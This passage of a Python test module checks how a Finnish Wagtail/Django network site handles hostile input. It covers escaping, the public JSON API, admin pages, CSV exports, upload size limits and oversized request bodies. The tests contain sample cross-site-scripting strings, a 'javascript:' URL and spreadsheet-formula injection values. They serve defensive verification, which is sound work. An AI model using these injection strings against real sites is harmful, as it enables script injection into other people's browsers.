            "goals-0-value-goal": plain_value(label=" tavoite"),
            "goals-0-value-indicator": plain_value(label=" mittari"),
        }
        cls.assert_saved(post_page_edit(client, cls.promise, promise_changes))

        cls.network = seeded("page:network")
        network_changes = {
            "actors-0-value-actor": plain_value(255, " toimija"),
            "actors-0-value-role": plain_value(label=" rooli"),
        }
        cls.assert_saved(post_page_edit(client, cls.network, network_changes))
        for key in ("body", "promise", "network"):
            setattr(cls, key, getattr(cls, key).specific_class.objects.get(pk=getattr(cls, key).pk))

    @staticmethod
    def assert_saved(response):
        assert response.status_code == 302, response.content.decode()[-3000:]

    def test_the_values_were_saved_as_typed(self):
        # Text is stored as typed: escaping is the business of whoever shows it.
        self.assertEqual(Organisation.objects.get(pk=self.verso.pk).name, plain_value(255, " org"))
        self.assertEqual(Organisation.objects.get(pk=self.verso.pk).website, WEBSITE)
        self.assertEqual(Person.objects.get(pk=self.person.pk).email, EMAIL)
        self.assertEqual(self.body.title, plain_value(255, " toimielin"))
        self.assertEqual(self.promise.goals[0].value["indicator"], plain_value(label=" mittari"))

    def test_the_body_page(self):
        html = self.public_html(self.body.url)
        for words in (" toimielin", " johdanto", " org", " kuvateksti", " tehtävä", " vastuu", " jäsen", " henkilö"):
            self.assertShows(html, f"{MARKER}{words}", self.body.url)
        doc = Markup(html)
        self.assertIn(f'{MARKER} seo "><script>', doc.visible_text)  # in <title>, as text
        metas = {attrs.get("name") or attrs.get("property"): attrs.get("content") for tag, attrs, _raw in doc.elements if tag == "meta"}
        self.assertTrue(metas["description"].startswith(f"{MARKER} kuvaus"))
        self.assertTrue(metas["og:title"].startswith(f"{MARKER} seo"))
        self.assertTrue(any(tag == "svg" for tag, _a, _r in doc.elements), "no org chart drawn")
        self.assertIn(f'href="mailto:{EMAIL.replace(chr(34), "&quot;").replace("<", "&lt;").replace(">", "&gt;")}"', html)

    def test_json_ld(self):
        html = self.public_html(self.body.url)
        (ld,) = [body for attrs, body in Markup(html).scripts if attrs.get("type") == "application/ld+json"]
        data = json.loads(ld)
        self.assertEqual(data["name"], plain_value(255, " toimielin"))
        self.assertEqual(data["description"], plain_value(label=" johdanto"))
        member = next(m for m in data["member"] if m["name"] == plain_value(255, " org"))
        self.assertEqual(member["url"], WEBSITE)
        self.assertIn(plain_value(255, " teema"), data["knowsAbout"])
        self.assertNotIn("</", ld)

    def test_other_public_pages(self):
        for url in (
            "/",
            self.network.url,
            seeded("page:safety-network").url,
            seeded("page:expert-groups").url,
            seeded("page:expert-group-digi").url,
            seeded("page:action-plan").url,
            self.promise.url,
            seeded("page:accessibility-statement").url,
        ):
            with self.subTest(url):
                self.public_html(url)
        self.assertShows(self.public_html(self.network.url), f"{MARKER} toimija", self.network.url)
        self.assertShows(self.public_html(self.network.url), f"{MARKER} johdanto", "card")
        html = self.public_html(self.promise.url)
        for words in (" lupaus", " tavoite", " mittari"):
            self.assertShows(html, f"{MARKER}{words}", self.promise.url)
        self.assertShows(self.public_html("/"), f"{MARKER} teemakuvaus", "/")

    def test_search(self):
        html = self.search_html()
        self.assertShows(html, f"{MARKER} kuvaus", "/haku/")
        self.public_html(f"/haku/?q={'%22%3E%3Cscript%3Ealert(1)%3C/script%3E'}")
        self.public_html("/haku/?q=%3C/mark%3E%3Cscript%3Ealert(1)%3C/script%3E+Vihamielinen")

    def test_api(self):
        for url in (
            f"/api/v2/pages/{self.body.pk}/",
            f"/api/v3/pages/{self.body.pk}/",
            "/api/v2/pages/?type=verkosto_pages.CoordinationGroupPage&fields=*",
            f"/api/v2/pages/{self.promise.pk}/",
            f"/api/v3/pages/{self.promise.pk}/",
            f"/api/v2/pages/{self.network.pk}/",
            f"/api/v2/images/{self.image.pk}/",
        ):
            with self.subTest(url):
                self.api_json(url)
        data = self.api_json(f"/api/v2/pages/{self.body.pk}/")
        # Plain strings as typed, not HTML-escaped: a consumer escapes for its own medium.
        self.assertEqual(data["title"], plain_value(255, " toimielin"))
        self.assertEqual(data["org_chart"]["caption"], plain_value(255, " kuvateksti"))
        organisation = next(m["organisation"] for m in data["members"] if m["organisation"] and m["organisation"]["id"] == self.verso.pk)
        self.assertEqual((organisation["name"], organisation["website"]), (plain_value(255, " org"), WEBSITE))
        self.assertEqual(data["coordinators"][0]["person"]["email"], EMAIL)

    def test_directory_in_the_admin(self):
        for url in (
            "/admin/verkosto_pages/organisation/",
            f"/admin/verkosto_pages/organisation/?q={MARKER}",
            f"/admin/verkosto_pages/organisation/inspect/{self.verso.pk}/",
            f"/admin/verkosto_pages/organisation/edit/{self.verso.pk}/",
            f"/admin/verkosto_pages/organisation/delete/{self.verso.pk}/",
            "/admin/verkosto_pages/person/",
            f"/admin/verkosto_pages/person/inspect/{self.person.pk}/",
            f"/admin/verkosto_pages/person/edit/{self.person.pk}/",
            "/admin/verkosto_pages/theme/",
            f"/admin/verkosto_pages/theme/inspect/{self.theme.pk}/",
            "/admin/organisation_chooser/",
            f"/admin/organisation_chooser/results/?q={MARKER}",
            "/admin/person_chooser/",
        ):
            with self.subTest(url):
                html = self.admin_html(url)
                self.assertIn(MARKER, html, url)
        listing = self.admin_html("/admin/verkosto_pages/organisation/")
        # The website column links only an address with a safe scheme.
        self.assertTrue(any(attrs.get("href") == WEBSITE for tag, attrs, _r in Markup(listing).elements if tag == "a"))

    def test_pages_in_the_admin(self):
        for url in (
            "/admin/",
            f"/admin/pages/{self.body.pk}/edit/",
            f"/admin/pages/{self.body.get_parent().pk}/",
            f"/admin/pages/{self.body.pk}/history/",
            f"/admin/pages/{self.body.pk}/revisions/compare/{self.first_revision.pk}...latest/",
            f"/admin/pages/search/?q={MARKER}",
            "/admin/reports/review/?review=",
            f"/admin/pages/{self.promise.pk}/edit/",
            f"/admin/pages/{self.network.pk}/edit/",
            f"/admin/images/{self.image.pk}/",
            "/admin/images/",
            "/admin/choose-page/",
        ):
            with self.subTest(url):
                self.admin_html(url)

    def test_spreadsheet_exports_open_formulas_as_text(self):
        group = seeded("page:expert-group-digi")
        group.title = f"{FORMULA} {MARKER}"
        group.save_revision().publish()
        for url in ("/admin/members/export/?export=csv", "/admin/reports/review/?review=&export=csv"):
            with self.subTest(url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 200, url)
                text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
                cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
                self.assertTrue(any(MARKER in cell for cell in cells), url)
                risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
                self.assertEqual(risky, [], url)
                self.assertIn(f"'{FORMULA}", cells[0] + "".join(cells), url)

    def test_a_javascript_website_is_refused_with_a_finnish_message(self):
        response = self.client.post(
            f"/admin/verkosto_pages/organisation/edit/{self.verso.pk}/",
            {"name": "Verso", "kind": self.verso.kind, "website": "javascript:alert(1)//https://example.com/"},
        )
        self.assertEqual(response.status_code, 200)
        self.assertIn("Syötä oikea URL-osoite.", response.content.decode())
        self.assertEqual(Organisation.objects.get(pk=self.verso.pk).website, WEBSITE)


# --- Oversized uploads and requests -------------------------------------------


class OversizedTests(HostileInputTestCase):
    """Too big a file gets the form's Finnish message; too big a request body a 400
    with a message, never a 500. Small limits keep the tests fast."""

    def test_the_limits_are_set(self):
        self.assertEqual(settings.WAGTAILDOCS_MAX_UPLOAD_SIZE, 20 * 1024 * 1024)
        self.assertEqual(settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE, 10 * 1024 * 1024)
        self.assertLessEqual(getattr(settings, "WAGTAILIMAGES_MAX_IMAGE_PIXELS", 128_000_000), 128_000_000)
        self.assertLessEqual(settings.DATA_UPLOAD_MAX_MEMORY_SIZE, 2_621_440)

    def big_png(self):
        return SimpleUploadedFile("iso.png", get_test_image_file(size=(400, 400)).file.getvalue(), content_type="image/png")

    @override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=1024)
    def test_an_image_over_the_limit(self):
        images = Image.objects.count()
        response = self.client.post("/admin/images/add/", {"title": "Iso kuva", "file": self.big_png()})
        self.assertEqual(response.status_code, 200)
        self.assertIn("Tiedosto on liian suuri", response.content.decode())
        self.assertIn("Tiedoston koko voi olla enintään 1,0", response.content.decode())
        response = self.client.post("/admin/images/multiple/add/", {"files[]": self.big_png()})
        self.assertEqual(response.status_code, 200)
        self.assertFalse(response.json()["success"])
        self.assertIn("Tiedosto on liian suuri", response.json()["error_message"])
        self.assertEqual(Image.objects.count(), images)

    @override_settings(WAGTAILIMAGES_MAX_IMAGE_PIXELS=10_000)
    def test_an_image_of_too_many_pixels(self):
        # A small file can decode to a huge bitmap (a "decompression bomb").
        images = Image.objects.count()
        response = self.client.post("/admin/images/add/", {"title": "Pommi", "file": self.big_png()})
        self.assertEqual(response.status_code, 200)
        self.assertIn("Tässä tiedostossa on liian monta kuvapistettä (160000)", response.content.decode())
        self.assertEqual(Image.objects.count(), images)

    @override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1024)
    def test_a_document_over_the_limit(self):
        documents = Document.objects.count()
        big = SimpleUploadedFile("iso.pdf", b"%PDF-1.4\n" + b"0" * 4096, content_type="application/pdf")
        response = self.client.post("/admin/documents/add/", {"title": "Iso tiedosto", "file": big})
        self.assertEqual(response.status_code, 200)
        self.assertIn("Tiedosto on liian suuri", response.content.decode())
        big.seek(0)
        response = self.client.post("/admin/documents/multiple/add/", {"files[]": big})
        self.assertEqual(response.status_code, 200)
        self.assertFalse(response.json()["success"])
        self.assertIn("Tiedosto on liian suuri", response.json()["error_message"])
        self.assertEqual(Document.objects.count(), documents)

    @override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1024)
    def test_a_request_body_over_the_limit(self):
        body = "q=" + "a" * 4096
        form = "application/x-www-form-urlencoded"

        def browser(logged_in):
            # A browser that has a CSRF cookie, so the check reads the form's token from the body.
            client = Client(enforce_csrf_checks=True)
            client.cookies[settings.CSRF_COOKIE_NAME] = "k" * 32
            if logged_in:
                client.force_login(self.user)
            return client

        group = seeded("page:expert-group-digi")
        for client, url, content_type in (
            (browser(False), "/haku/", form),
            (browser(False), group.url, form),
            (browser(True), f"/admin/pages/{group.pk}/edit/", form),
            (self.client, f"/admin/pages/{group.pk}/edit/", form),
            (self.client, "/admin/verkosto_pages/organisation/create/", form),
            (self.client, "/admin/documents/add/", "multipart/form-data; boundary=raja"),
        ):
            if content_type.startswith("multipart"):
                body = f'--raja\r\nContent-Disposition: form-data; name="title"\r\n\r\n{"a" * 4096}\r\n--raja--\r\n'
            with self.subTest(url=url, csrf=client is not self.client):
                response = client.generic("POST", url, body, content_type=content_type)
                self.assertEqual(response.status_code, 400, response.content[:300])
                self.assertIn("text/html", response["Content-Type"])
                text = Markup(response.content.decode()).visible_text
                self.assertIn("liian suuri", text)

    @override_settings(DATA_UPLOAD_MAX_MEMORY_SIZE=1024)
    def test_an_api_request_body_over_the_limit(self):
        token = APIToken.create_token(user=self.user, name="iso")[1]
        group = seeded("page:expert-group-digi")
        body = json.dumps({"convener_note": "a" * 4096})
        response = self.anonymous.generic(
            "PATCH", f"/api/v3/pages/{group.pk}/", body, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {token}"
        )
        self.assertEqual(response.status_code, 400, response.content[:300])
        self.assertIn("liian suuri", response.json()["detail"])
